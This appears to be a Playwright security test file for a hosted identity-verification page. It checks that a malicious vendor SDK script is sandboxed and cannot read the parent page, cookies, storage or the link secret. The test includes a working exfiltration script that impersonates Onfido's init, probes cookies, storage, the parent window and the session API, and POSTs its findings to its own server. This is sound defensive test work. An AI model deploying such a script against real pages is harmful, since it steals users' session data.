/** A tenant names its own server as a vendor's: what its script can reach of the page, the link, and other tenants. */
import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { portraitPhoto } from '@visavis/testing/camera'
import { addUser, register } from '@visavis/vendor-sandbox/entrust'
import { test as base, expect } from '../fixtures/vendor-test.ts'
import { HostedPage } from '../pages/HostedPage.ts'

/** Looks at all a script of the page's own origin could see, and tells its server. */
const EVIL_SCRIPT = `(() => {
const home = new URL(document.currentScript.src).origin
const looks = {
  parent: () => parent.location.href,
  document: () => parent.document.title,
  history: () => JSON.stringify(parent.history.state),
  siblings: () => parent.frames[0].frames.length + parent.frames[0].name + parent.history.length,
  storage: () => JSON.stringify(localStorage),
  session: () => JSON.stringify(sessionStorage),
  cookies: () => document.cookie,
  top: () => { top.location = home; return 'went' },
  popup: () => String(open('/verify/x')),
}
globalThis.Onfido = {
  init: async (given) => {
    const saw = {}
    for (const [name, look] of Object.entries(looks)) {
      try { saw[name] = look() } catch (failure) { saw[name] = failure.name }
    }
    const bare = document.createElement('iframe')
    bare.src = new URL('/frame/x', document.baseURI).href
    document.body.append(bare)
    await new Promise((resolve) => { bare.onload = resolve; setTimeout(resolve, 1500) })
    try { saw.bare = bare.contentWindow.location.hash + bare.contentWindow.location.href } catch (failure) { saw.bare = failure.name }
    await fetch(new URL('/capture/session', document.baseURI), { credentials: 'include' })
      .then(async (answer) => { saw.api = answer.type + await answer.text() }, (failure) => { saw.api = failure.name })
    saw.origin = self.origin
    saw.address = location.href
    saw.given = Object.keys(given).sort().join()
    await fetch(home + '/saw', { method: 'POST', body: JSON.stringify(saw) })
  },
}
})()`

const test = base.extend<{ evil: { url: string; saw: Promise<Record<string, string>> } }>({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the dependencies from this pattern
  evil: async ({}, use) => {
    const seen = Promise.withResolvers<Record<string, string>>()
    const server = createServer(async (request, response) => {
      response.setHeader('Access-Control-Allow-Origin', '*')
      if (request.method !== 'POST') {
        response.writeHead(200, { 'Content-Type': 'text/javascript' }).end(EVIL_SCRIPT)
        return
      }
      const chunks: Buffer[] = []
      for await (const chunk of request) chunks.push(chunk)
      response.end()
      seen.resolve(JSON.parse(Buffer.concat(chunks).toString()))
    })
    server.listen(0, '127.0.0.1')
    await once(server, 'listening')
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
    await use({ url, saw: seen.promise })
    server.closeAllConnections()
    server.close()
  },
})

test('a vendor’s script is at home nowhere: no page, no link, no API, no other window', async ({
  cameraPage,
  entrust,
  evil,
  partner,
  partnerSite,
}) => {
  await partner.change({
    provider: 'entrust',
    provider_settings: { ...entrust.credentials, script_url: `${evil.url}/sdk.js` },
  })
  const { id: owner } = await addUser(entrust.origin)
  const details = await register(entrust.origin, await portraitPhoto('ada'))
  const applicantId = await partner.note({
    at_vendor: { user_journey_id: partner.userJourneyId, owner, details },
  })
  const { verificationUrl } = await partner.start(applicantId, partnerSite.redirectUrl)
  const secret = new URL(verificationUrl).hash.slice(1)
  const page = await cameraPage(
    { scene: 'portrait' },
    {
      otherOrigins: [evil.url],
      expectedMessages: /Security|sandbox|Content Security Policy|CORS|Failed to load|frame/i,
    },
  )
  const hosted = new HostedPage(page)
  await hosted.open(verificationUrl)
  await hosted.begin()
  const saw = await evil.saw
  expect(JSON.stringify(saw)).not.toContain(secret)
  expect(saw).toMatchObject({
    parent: 'SecurityError',
    document: 'SecurityError',
    history: 'SecurityError',
    siblings: 'SecurityError',
    // Its own, which nobody else has written to.
    storage: '{}',
    session: '{}',
    cookies: '',
    top: 'SecurityError',
    popup: 'null',
    bare: 'SecurityError',
    api: 'TypeError',
    origin: expect.stringMatching(/^http:\/\/[a-z2-7]{26}\.localhost:\d+$/),
    // What it is started with is this capture's: Onfido's own token and run, an element, callbacks.
    given: 'containerEl,onComplete,onError,onUserExit,token,workflowRunId',
  })
  expect(new URL(page.url()).pathname).toMatch(/^\/verify\//)
})

test('the secret of a link leaves the address before anything runs, also in a bare frame, and a reload goes on', async ({
  applicantId,
  bff,
  cameraPage,
  partner,
  partnerSite,
}) => {
  await partner.change({ provider: 'embedded', provider_settings: {} })
  const { verificationUrl } = await partner.start(applicantId, partnerSite.redirectUrl)
  const { hash, pathname } = new URL(verificationUrl)
  const page = await cameraPage({ scene: 'portrait' })
  // Whoever could watch the page from its first moment on.
  await page.addInitScript(() => {
    addEventListener('DOMContentLoaded', () => {
      document.documentElement.dataset.atFirst = location.hash
    })
  })
  const hosted = new HostedPage(page)
  await hosted.open(verificationUrl)
  await expect(page).toHaveURL(`${bff.url}${pathname}`)
  expect(await page.evaluate(() => document.documentElement.dataset.atFirst)).toBe('')
  await page.reload()
  await hosted.begin()
  await page.waitForURL(`${partnerSite.origin}/**`)

  const next = await partner.start(applicantId, partnerSite.redirectUrl)
  await page.goto(`${bff.url}/health/live`)
  await page.goto(next.verificationUrl.replace('/verify/', '/frame/'))
  await expect(page).toHaveURL(next.verificationUrl.replace('/verify/', '/frame/').replace(/#.*/, ''))
  expect(hash).not.toBe('')
})
